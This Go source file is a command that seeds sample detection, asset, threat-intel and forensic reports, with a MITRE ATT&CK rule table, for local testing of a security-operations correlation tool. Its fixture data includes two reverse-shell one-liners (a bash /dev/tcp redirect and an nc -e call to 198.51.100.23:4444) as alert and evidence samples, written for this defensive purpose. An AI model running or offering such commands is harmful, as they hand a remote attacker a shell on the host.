// Command seed-reports writes a coherent set of producer reports for local
// development so every sochub command has something to correlate.
package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"time"

	"github.com/rs/zerolog"
	"github.com/spf13/cobra"

	"github.com/socops/sochub/internal/utils"
)

type entities struct {
	User string `json:"user,omitempty"`
	IP   string `json:"ip,omitempty"`
}

type incident struct {
	ID        string   `json:"id"`
	Title     string   `json:"title"`
	Severity  string   `json:"severity"`
	RiskScore float64  `json:"risk_score"`
	Entities  entities `json:"entities"`
}

type alert struct {
	ThreatID     string   `json:"threat_id"`
	Severity     string   `json:"severity"`
	User         string   `json:"user,omitempty"`
	IP           string   `json:"ip,omitempty"`
	Asset        string   `json:"asset,omitempty"`
	TsFirst      string   `json:"ts_first"`
	TsLast       string   `json:"ts_last"`
	EventSamples []string `json:"event_samples"`
}

type asset struct {
	IP                 string  `json:"ip"`
	Hostname           string  `json:"hostname"`
	AttackSurfaceScore float64 `json:"attack_surface_score"`
}

type indicator struct {
	Value string  `json:"value"`
	Type  string  `json:"type"`
	Risk  string  `json:"risk"`
	Score float64 `json:"score"`
}

type finding struct {
	Category string `json:"category"`
	Severity string `json:"severity"`
	Ts       string `json:"ts"`
	Evidence string `json:"evidence"`
	Details  string `json:"details"`
}

type forensicUser struct {
	User      string    `json:"user"`
	RiskScore float64   `json:"risk_score"`
	Findings  []finding `json:"findings"`
}

// producers emit naive local timestamps
const tsLayout = "2006-01-02T15:04:05"

const ruleTable = `# Forensic category -> MITRE ATT&CK technique.
techniques:
  CREDENTIAL_ABUSE:
    mitre_id: T1078
    tactic: Defense Evasion
    description: Valid Accounts
  ADMIN_MISUSE:
    mitre_id: T1547
    tactic: Persistence
    description: Boot or Logon Autostart Execution
  MALICIOUS_PATTERN:
    mitre_id: T1059
    tactic: Execution
    description: Command and Scripting Interpreter
  TIME_ANOMALY:
    mitre_id: T1087
    tactic: Discovery
    description: Account Discovery
priority:
  - CREDENTIAL_ABUSE
  - ADMIN_MISUSE
  - MALICIOUS_PATTERN
  - TIME_ANOMALY
`

func main() {
	var (
		outDir   string
		rulesOut string
	)
	logger := utils.NewLogger("info", "auto", os.Stderr).With().Str("component", "seed-reports").Logger()

	cmd := &cobra.Command{
		Use:          "seed-reports",
		Short:        "Write sample detection, asset, intel and forensic reports",
		SilenceUsage: true,
		RunE: func(cmd *cobra.Command, _ []string) error {
			return seed(logger, outDir, rulesOut, time.Now())
		},
	}
	cmd.Flags().StringVar(&outDir, "out", "reports", "directory for the generated reports")
	cmd.Flags().StringVar(&rulesOut, "rules", "", "also write the technique rule table to this path")

	if err := cmd.Execute(); err != nil {
		logger.Fatal().Err(err).Msg("seeding failed")
	}
}

func seed(logger zerolog.Logger, outDir, rulesOut string, now time.Time) error {
	ts := func(ago time.Duration) string { return now.Add(-ago).Format(tsLayout) }
	// an off-hours login for the TIME_ANOMALY finding
	night := time.Date(now.Year(), now.Month(), now.Day(), 3, 12, 0, 0, now.Location()).Format(tsLayout)

	documents := map[string]any{
		"detection-report.json": map[string]any{
			"incidents": []incident{
				{ID: "INC_0001", Title: "Reverse shell spawned from web worker", Severity: "HIGH", RiskScore: 50,
					Entities: entities{User: "alice", IP: "10.0.0.5"}},
				{ID: "INC_0002", Title: "Brute force against SSH", Severity: "MEDIUM", RiskScore: 60,
					Entities: entities{User: "bob", IP: "203.0.113.7"}},
				{ID: "INC_0003", Title: "New systemd unit on build host", Severity: "MEDIUM", RiskScore: 45,
					Entities: entities{User: "carol", IP: "10.0.0.21"}},
				{ID: "INC_0004", Title: "Port scan from printer VLAN", Severity: "LOW", RiskScore: 20,
					Entities: entities{IP: "10.0.9.14"}},
			},
			"alerts": []alert{
				{ThreatID: "TH-101", Severity: "HIGH", User: "alice", IP: "10.0.0.5", Asset: "web-01",
					TsFirst: ts(50 * time.Minute), TsLast: ts(45 * time.Minute),
					EventSamples: []string{"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"}},
				{ThreatID: "TH-102", Severity: "MEDIUM", User: "bob", IP: "203.0.113.7",
					TsFirst: ts(2 * time.Hour), TsLast: ts(90 * time.Minute),
					EventSamples: []string{"Failed password for bob from 203.0.113.7 port 52144 ssh2"}},
				{ThreatID: "TH-103", Severity: "LOW", IP: "10.0.9.14", Asset: "printer-3",
					TsFirst: ts(3 * time.Hour), TsLast: ts(3 * time.Hour)},
			},
		},
		"assets-report.json": map[string]any{
			"assets": []asset{
				{IP: "10.0.0.5", Hostname: "web-01", AttackSurfaceScore: 80},
				{IP: "10.0.0.21", Hostname: "build-02", AttackSurfaceScore: 55},
				{IP: "10.0.9.14", Hostname: "printer-3", AttackSurfaceScore: 30},
			},
		},
		"intel-report.json": map[string]any{
			"indicators": []indicator{
				{Value: "203.0.113.7", Type: "ipv4", Risk: "HIGH", Score: 85},
				{Value: "10.0.0.5", Type: "ipv4", Risk: "LOW", Score: 40},
			},
		},
		"forensic-report.json": map[string]any{
			"users": []forensicUser{
				{User: "alice", RiskScore: 95, Findings: []finding{
					{Category: "MALICIOUS_PATTERN", Severity: "HIGH", Ts: ts(48 * time.Minute),
						Evidence: "nc -e /bin/sh 198.51.100.23 4444", Details: "reverse shell one-liner in history"},
				}},
				{User: "bob", RiskScore: 70, Findings: []finding{
					{Category: "CREDENTIAL_ABUSE", Severity: "HIGH", Ts: ts(80 * time.Minute),
						Evidence: "Accepted password for bob from 203.0.113.7", Details: "login after 212 failures"},
					{Category: "TIME_ANOMALY", Severity: "MEDIUM", Ts: night,
						Evidence: "session opened for user bob", Details: "interactive login at 03:12"},
				}},
				{User: "carol", RiskScore: 60, Findings: []finding{
					{Category: "ADMIN_MISUSE", Severity: "MEDIUM", Ts: ts(5 * time.Hour),
						Evidence: "systemctl enable updater.service", Details: "unit installed outside change window"},
				}},
			},
		},
	}

	if err := os.MkdirAll(outDir, 0o755); err != nil {
		return fmt.Errorf("create output directory: %w", err)
	}
	for name, payload := range documents {
		path := filepath.Join(outDir, name)
		if err := writeJSON(path, payload); err != nil {
			return err
		}
		logger.Info().Str("path", path).Msg("report written")
	}

	if rulesOut != "" {
		if err := os.MkdirAll(filepath.Dir(rulesOut), 0o755); err != nil {
			return fmt.Errorf("create rules directory: %w", err)
		}
		if err := os.WriteFile(rulesOut, []byte(ruleTable), 0o644); err != nil {
			return fmt.Errorf("write rule table: %w", err)
		}
		logger.Info().Str("path", rulesOut).Msg("rule table written")
	}
	return nil
}

func writeJSON(path string, payload any) error {
	data, err := json.MarshalIndent(payload, "", "  ")
	if err != nil {
		return fmt.Errorf("encode %s: %w", path, err)
	}
	if err := os.WriteFile(path, append(data, '\n'), 0o644); err != nil {
		return fmt.Errorf("write %s: %w", path, err)
	}
	return nil
}
